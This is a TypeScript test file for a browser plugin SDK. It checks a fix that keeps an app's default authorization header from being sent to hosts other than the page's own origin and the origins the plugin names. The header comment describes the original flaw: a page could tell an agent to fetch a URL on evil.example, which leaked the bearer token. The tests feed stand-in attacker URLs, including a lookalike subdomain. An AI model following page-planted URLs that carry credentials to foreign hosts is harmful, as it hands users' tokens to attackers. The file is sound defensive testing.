/**
 * The SDK's default headers (setDefaultHeaders) are often an app's credential: a bearer token the
 * page keeps in storage, sent by every request of the plugin. A tool that fetches a URL from its
 * input (a "next page" link, a resource URL the app returned) sent them to any host the URL named,
 * so an agent told by a page to pass `https://evil.example/…` handed the app's token to that host
 * (a cross-origin fetch with headers is preflighted, and the host lets it through). They now go
 * only to the page's own origin and to the origins the plugin names with them; a request elsewhere
 * carries only its own headers.
 */
import { afterEach, expect, test } from 'bun:test';
import * as v from 'valibot';
import { definePlugin, defineTool, fetchJson, setDefaultHeaders } from '../../plugins/sdk/index.ts';
import { runTool } from '../../plugins/sdk/testing.ts';

const TOKEN = 'Bearer app-token-0123456789';

const plugin = definePlugin({
  name: 'linkfollow',
  displayName: 'Link follow',
  description: 'Reads a resource of the app by the URL the app gave for it.',
  urlPatterns: ['https://app.example.com/*'],
  isReady: () => true,
  tools: [
    defineTool({
      name: 'get_resource',
      description: 'Read a resource by its URL.',
      input: v.object({ url: v.string() }),
      output: v.unknown(),
      async handle(input, ctx) {
        return fetchJson(input.url, { signal: ctx.signal });
      },
    }),
  ],
});

afterEach(() => setDefaultHeaders({}));

async function authorizationSentTo(url: string): Promise<string | null> {
  const requests: Request[] = [];
  const { outcome } = await runTool(plugin, 'get_resource', { url }, { page: { url: 'https://app.example.com/inbox' }, requests, routes: { '/r': () => ({ ok: true }) } });
  expect(outcome).toEqual({ ok: true, value: { ok: true } });
  expect(requests.length).toBe(1);
  return requests[0]!.headers.get('authorization');
}

test("the app's default headers go to its own origin only", async () => {
  setDefaultHeaders({ authorization: TOKEN });
  expect(await authorizationSentTo('/r')).toBe(TOKEN);
  expect(await authorizationSentTo('https://app.example.com/r')).toBe(TOKEN);
  for (const elsewhere of ['https://evil.example/r', '//evil.example/r', 'http://app.example.com/r', 'https://app.example.com.evil.example/r', 'https://api.example.com/r']) {
    expect({ elsewhere, sent: await authorizationSentTo(elsewhere) }).toEqual({ elsewhere, sent: null });
  }
});

test('an origin the plugin names with its default headers gets them too', async () => {
  setDefaultHeaders({ authorization: TOKEN }, { origins: ['https://api.example.com'] });
  expect(await authorizationSentTo('https://api.example.com/r')).toBe(TOKEN);
  expect(await authorizationSentTo('/r')).toBe(TOKEN);
  expect(await authorizationSentTo('https://evil.example/r')).toBeNull();
});
